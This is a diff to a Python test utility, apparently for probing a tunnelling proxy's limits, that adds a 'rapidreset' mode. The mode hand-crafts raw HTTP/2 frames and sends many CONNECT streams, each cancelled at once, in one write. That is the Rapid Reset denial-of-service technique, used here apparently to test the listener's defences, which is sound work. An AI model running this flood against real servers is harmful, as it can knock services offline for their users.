@@ -5,6 +5,9 @@ with /usr/bin/python3; python3-h2 for the HTTP/2 ones). Each prints one line of 
   tunabuse.py burst HOST PORT TARGET N [--src ADDR]
       N HTTP/1.1 CONNECTs to TARGET, one connection each, one after the other:
       prints "STATUS=COUNT ..." (e.g. "200=20 429=10").
+  tunabuse.py rapidreset HOST PORT TARGET N [--src ADDR]
+      one h2c connection: N CONNECT streams to TARGET, each reset (CANCEL) right after
+      its HEADERS, all in one write; reads until the listener closes or 2 s pass.
   tunabuse.py conns HOST PORT N [--src ADDR]
       N h2c connections held open at once: prints "open=K closed=M" (closed: the
       listener closed it before answering the preface with its SETTINGS).
@@ -16,6 +19,7 @@ with /usr/bin/python3; python3-h2 for the HTTP/2 ones). Each prints one line of 
       refused=M sent=BYTES buffered=B" (refused: streams reset with REFUSED_STREAM).
 """
 import socket
+import struct
 import sys
 import time
 import urllib.request
@@ -150,10 +154,36 @@ def stall(host, port, target, nconns, nstreams, admin, secs):
         st[0].close()
 
 
+def rapidreset(host, port, target, n, src):
+    """HEADERS (CONNECT) then RST_STREAM(CANCEL) for n streams, all in one write, on one
+    h2c connection (raw frames: a client that does not wait for anything)."""
+    t = target.encode()
+    block = b"\x02\x07CONNECT" + b"\x01" + bytes([len(t)]) + t  # :method, :authority (static names)
+
+    def frame(typ, flags, sid, payload):
+        return struct.pack(">I", len(payload))[1:] + bytes([typ, flags]) + struct.pack(">I", sid) + payload
+
+    s = connect(host, port, src)
+    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
+    for sid in range(1, 2 * n, 2):
+        out += frame(1, 4, sid, block) + frame(3, 0, sid, struct.pack(">I", 8))
+    s.sendall(out)
+    s.settimeout(2)
+    try:
+        while s.recv(65536):
+            pass
+    except (ConnectionError, socket.timeout):
+        pass
+    s.close()
+    print("sent %d" % n)
+
+
 def main():
     a = sys.argv[1:]
     if a[0] == "burst":
         burst(a[1], int(a[2]), a[3], int(a[4]), opt_src(a))
+    elif a[0] == "rapidreset":
+        rapidreset(a[1], int(a[2]), a[3], int(a[4]), opt_src(a))
     elif a[0] == "conns":
         conns(a[1], int(a[2]), int(a[3]), opt_src(a))
     elif a[0] == "stall":
